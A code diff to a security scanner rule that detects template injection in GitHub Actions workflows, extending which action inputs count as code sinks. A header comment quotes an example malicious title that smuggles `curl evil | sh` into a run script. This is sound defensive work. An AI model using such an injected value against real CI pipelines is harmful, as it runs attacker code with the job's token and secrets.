@@ -3,6 +3,7 @@
  * `script:`: the expansion happens before the shell parses the script, so a title such as
  * `a"; curl evil | sh; "` runs as code with the job's token and secrets.
  */
+import { CODE_SINK_INPUTS } from '../../documents/workflow/contexts.js';
 import { actionName, expressions, jobLabel, lineIn, privilegedTriggers, reachedContexts, taintedEnv } from '../../documents/workflow/model.js';
 import type { Located, WorkflowProject } from '../../documents/workflow/types.js';
 import type { PostureHit, PostureRule } from '../rule.js';
@@ -31,7 +32,11 @@ export const templateInjection: PostureRule<WorkflowProject> = {
         const tainted = taintedEnv(doc, job, step);
         const sinks: { where: string; v: Located }[] = [];
         if (step.run) sinks.push({ where: 'run', v: step.run });
-        if (actionName(step) === 'actions/github-script' && step.with.script) sinks.push({ where: 'github-script script', v: step.with.script });
+        const action = actionName(step);
+        for (const input of (action && CODE_SINK_INPUTS[action]) || []) {
+          const v = step.with[input];
+          if (v) sinks.push({ where: `${action === 'actions/github-script' ? 'github-script' : action} ${input}`, v });
+        }
         for (const { where, v } of sinks) {
           for (const e of expressions(v.value)) {
             const ctx = reachedContexts(e.text, tainted);
